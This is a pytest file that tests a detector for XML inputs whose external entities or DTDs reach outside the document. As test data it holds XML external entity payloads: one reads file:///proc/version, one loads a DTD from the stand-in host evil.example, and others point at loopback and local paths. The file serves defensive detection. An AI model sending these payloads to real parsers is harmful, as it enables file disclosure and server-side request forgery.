"""When an input sends a reader of XML outside."""

from __future__ import annotations

import pytest

from collector.detect.reached.xml import reached

ENTITY = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///proc/version">]><r>&x;</r>'


@pytest.mark.parametrize(
    ("document", "target"),
    [
        (ENTITY, "file:///proc/version"),
        ("<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><r/>", "http://evil.example/x.dtd"),
        ('<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "/proc/version">]><r>&x;</r>', "/proc/version"),
        ('<!DOCTYPE r SYSTEM "http://127.0.0.1:8080/x.dtd"><r/>', "http://127.0.0.1:8080/x.dtd"),
        ('<!DOCTYPE r SYSTEM "file:///srv/x.dtd"><r/>', "file:///srv/x.dtd"),
    ],
)
def test_outside(document: str, target: str) -> None:
    """Entities from anywhere, definitions from files and from hosts that are not public; as a part or the whole."""
    assert reached(document, document) == target
    assert reached(f"<body>{document}</body>", document) == target
    assert reached("another input altogether <!", document) == ""


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
        '<!DOCTYPE r [<!ENTITY author "Ada Lovelace">]><r>&author;</r>',
        "<!-- SYSTEM 'file:///proc/version' is what an entity would say --><r/>",
        "<r><![CDATA[plain text in a document]]></r>",
    ],
)
def test_inside(document: str) -> None:
    """Definitions by habit, entities that are text, comments."""
    assert reached(document, document) == ""


def test_long_documents_are_read_in_time() -> None:
    """What never ends is not looked for again and again."""
    for text in ("<!ENTITY ", "<!ENTITY x SYSTEM '", "<!DOCTYPE x ", " " * 60 + "<!ENTITY"):
        document = text * (65536 // len(text))
        assert reached(document, document) == ""
